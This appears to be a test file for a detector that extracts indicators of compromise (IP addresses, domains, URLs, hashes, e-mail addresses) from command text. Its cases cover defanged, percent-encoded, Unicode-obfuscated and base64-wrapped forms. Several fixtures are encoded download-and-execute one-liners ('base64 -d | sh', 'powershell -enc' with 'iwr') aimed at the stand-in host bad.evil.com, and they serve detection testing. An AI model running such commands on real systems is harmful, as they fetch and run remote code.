import assert from "node:assert/strict";
import { test } from "node:test";
import { scanCommand } from "../../../src/intel/scan-command.ts";

function found(text: string): string[] {
  const all: string[] = [];
  scanCommand(text, (type, value) => all.push(`${type} ${value}`));
  return all;
}

const IP = "ip 45.61.137.88";
const HOST = "domain bad.evil.com";
const URL_ = "url http://bad.evil.com/x";
const MD5 = "md5 44d88612fea8a8f36de82e1278abb02f";
const utf16 = (text: string): string => Buffer.from(text, "utf16le").toString("base64");

/** Name, text, and what must be found in it. */
const FOUND: ReadonlyArray<readonly [string, string, string]> = [
  ["plain address", "from 45.61.137.88 now", IP],
  ["port", "45.61.137.88:443", IP],
  ["port with slash", "outside:45.61.137.88/443", IP],
  ["port with hash", "client 45.61.137.88#5353", IP],
  ["mask", "45.61.137.88/24", IP],
  ["square brackets", "[45.61.137.88]", IP],
  ["round brackets", "(45.61.137.88)", IP],
  ["angle brackets", "<45.61.137.88>", IP],
  ["quotes", '"45.61.137.88"', IP],
  ["escaped quotes", '\\"45.61.137.88\\"', IP],
  ["equals", "src=45.61.137.88", IP],
  ["comma", "a,45.61.137.88,b", IP],
  ["trailing dot", "it was 45.61.137.88.", IP],
  ["range, first", "45.61.137.88-45.61.137.90", IP],
  ["range, second", "45.61.137.80-45.61.137.88", IP],
  ["in braces", "{45.61.137.88}", IP],
  ["defanged, all dots", "45[.]61[.]137[.]88", IP],
  ["defanged, last dot", "45.61.137[.]88", IP],
  ["defanged, round", "45(.)61(.)137(.)88", IP],
  ["defanged, word", "45[dot]61[dot]137[dot]88", IP],
  ["defanged, blanks encoded", "45[%20.%00]61[%20.]137[.%20]88", IP],
  ["defanged, closing brackets encoded", "45[.%5d61(.%29137{.%7d88", IP],
  ["byte order mark", "45.6\ufeff1.137.88", IP],
  ["defanged, blanks", "45[ . ]61[ . ]137[ . ]88", IP],
  ["full-width dots", "45．61．137．88", IP],
  ["ideographic dots", "45。61。137。88", IP],
  ["mapped into IPv6", "::ffff:45.61.137.88", IP],
  ["mapped, hex", "::ffff:2d3d:8958", IP],
  ["mapped in brackets with port", "[::ffff:45.61.137.88]:80", IP],
  ["unicode escape", "45\\u002e61\\u002e137\\u002e88", IP],
  ["unicode escape, twice", "45\\\\u002e61\\\\u002e137\\\\u002e88", IP],
  ["hex escape", "45\\x2e61\\x2e137\\x2e88", IP],
  ["percent-encoded dot", "45%2E61%2e137%2e88", IP],
  ["double percent-encoded dot", "45%252E61%252e137%252e88", IP],
  ["user at address", "ssh root@45.61.137.88", IP],
  ["UNC path", "\\\\45.61.137.88\\share\\x", IP],
  ["UNC path, escaped", "\\\\\\\\45.61.137.88\\\\share", IP],
  ["plain host", "to bad.evil.com now", HOST],
  ["upper case", "BAD.EVIL.COM", HOST],
  ["mixed case", "bAd.EvIl.cOm", HOST],
  ["trailing dot of a host", "bad.evil.com.", HOST],
  ["host with port", "bad.evil.com:8080", HOST],
  ["host in round brackets", "(bad.evil.com)", HOST],
  ["host, defanged", "bad[.]evil[.]com", HOST],
  ["host, one defanged dot", "bad.evil[.]com", HOST],
  ["host, braces", "bad{.}evil{.}com", HOST],
  ["host, [dot]", "bad[dot]evil[dot]com", HOST],
  ["host, (dot) with blanks", "bad( dot )evil[.]com", HOST],
  ["host, full-width dot", "bad．evil．com", HOST],
  ["host, full-width letters", "ｂａｄ.evil.com", HOST],
  ["host, zero width space", "bad.ev\u200bil.com", HOST],
  ["host, soft hyphen", "bad.ev\u00adil.com", HOST],
  ["host, percent-encoded letter", "http://b%61d.evil.com/x", HOST],
  ["host, percent-encoded dot in a word", "bad%2Eevil%2Ecom", HOST],
  ["host, double percent-encoded", "bad%252Eevil%252Ecom", HOST],
  ["host, UNC", "\\\\bad.evil.com\\c$", HOST],
  ["host, WebDAV", "\\\\bad.evil.com@SSL\\x", HOST],
  ["host, service principal", "HTTP/bad.evil.com", HOST],
  ["host, letters of another script glued", "访问bad.evil.com下载", HOST],
  ["host, without scheme", "//bad.evil.com/x", HOST],
  ["host in JSON text", '{"host":"bad.evil.com"}', HOST],
  ["host after escaped ampersand", "a=1\\u0026h=bad.evil.com", HOST],
  ["host after ampersand entity", "a=1&amp;h=bad.evil.com", HOST],
  ["url", "GET http://bad.evil.com/x HTTP/1.1", URL_],
  ["url, hxxp", "hxxp://bad.evil.com/x", URL_],
  ["url, hXXp", "hXXp://bad.evil.com/x", URL_],
  ["url, bracketed colon", "hxxp[:]//bad[.]evil[.]com/x", URL_],
  ["url, bracketed separator", "hxxp[://]bad[.]evil[.]com/x", URL_],
  ["url, escaped slashes", "http:\\/\\/bad.evil.com\\/x", URL_],
  ["url, user name", "http://google.com@bad.evil.com/x", URL_],
  ["url, default port", "http://bad.evil.com:80/x", URL_],
  ["url, fragment", "http://bad.evil.com/x#y", URL_],
  ["url, dot segments", "http://bad.evil.com/a/../x", URL_],
  ["url, needless escape", "http://bad.evil.com/%78", URL_],
  ["url, in a query", "http://ok.example.com/r?u=http%3A%2F%2Fbad.evil.com%2Fx&v=1", URL_],
  ["url, double encoded in a query", "/r?u=http%253A%252F%252Fbad.evil.com%252Fx", URL_],
  ["url, in angle brackets", "<http://bad.evil.com/x>", URL_],
  ["url, in markup that was escaped", "href=&quot;http://bad.evil.com/x&quot;", URL_],
  ["url, letters glued before", "urlhttp://bad.evil.com/x", URL_],
  ["url, trailing full stop", "see http://bad.evil.com/x.", URL_],
  ["url, in Markdown", "[x](http://bad.evil.com/x)", URL_],
  ["url, base64 UTF-16", `powershell -nop -enc ${utf16("iwr http://bad.evil.com/x")}`, URL_],
  ["url, base64 UTF-8", `echo ${Buffer.from("curl http://bad.evil.com/x").toString("base64")} | base64 -d | sh`, URL_],
  [
    "url, FromBase64String",
    `[Convert]::FromBase64String('${Buffer.from("http://bad.evil.com/x ").toString("base64")}')`,
    URL_,
  ],
  ["url, base64 in base64", `powershell -e ${utf16(`powershell -enc ${utf16("iwr http://bad.evil.com/x")}`)}`, URL_],
  ["hash, upper case", "MD5=44D88612FEA8A8F36DE82E1278ABB02F", MD5],
  ["hash in sentence", "hash 44d88612fea8a8f36de82e1278abb02f.", MD5],
  ["e-mail, defanged", "x[@]evil[.]com", "email x@evil.com"],
  ["e-mail with tag", "x+y@evil.com", "email x+y@evil.com"],
];

/** Name, text, what is not found, and why that is policy. */
const POLICY: ReadonlyArray<readonly [string, string, string, string]> = [
  ["decimal address", "http://758024536/x", IP, "rule 9: other spellings of an address are not one"],
  ["dashed address", "45-61-137-88", IP, "rule 9"],
  ["dashed address in a host", "ip-45-61-137-88.example.net", IP, "rule 9; the host itself is found"],
  ["reverse name", "88.137.61.45.in-addr.arpa", IP, "rule 9"],
  ["reverse name as host", "88.137.61.45.in-addr.arpa", "domain 88.137.61.45.in-addr.arpa", "rule 9"],
  ["five octets", "45.61.137.88.1", IP, "rule 9"],
  ["leading zeros", "045.061.137.088", IP, "rule 9"],
  ["object identifier", "oid .1.3.6.1.4.1.45.61.137.88", IP, "rule 9"],
  ["version", "version 45.61.137.88", IP, "rule 9"],
  ["version in a product token", "Chrome/45.61.137.88", IP, "rule 9"],
  ["letters glued to an address", "v45.61.137.88", IP, "rule 9: that is how versions are written"],
  ["digits glued to an address", "45.61.137.888", IP, "not an address"],
  [
    "option glued to a host",
    "curl -hbad.evil.com",
    HOST,
    "`hbad.evil.com` is as good a name; parent domains still match",
  ],
  [
    "letter n of an escaped newline",
    "x\\nbad.evil.com",
    HOST,
    "a path component in other texts; parent domains still match",
  ],
  ["path component", "/var/www/bad.evil.com/index.html", HOST, "rule 5"],
  ["split string", "'bad.ev'+'il.com'", HOST, "code is not run"],
  ["message id", "message-id=<x@evil.com>", "email x@evil.com", "an id, not a mailbox"],
];

for (const [name, text, wanted] of FOUND) {
  test(`found: ${name}`, () => assert.ok(found(text).includes(wanted), `${text}: ${found(text).join(", ")}`));
}
for (const [name, text, unwanted, why] of POLICY) {
  test(`policy: ${name}`, () => assert.ok(!found(text).includes(unwanted), `${text}: ${why}`));
}
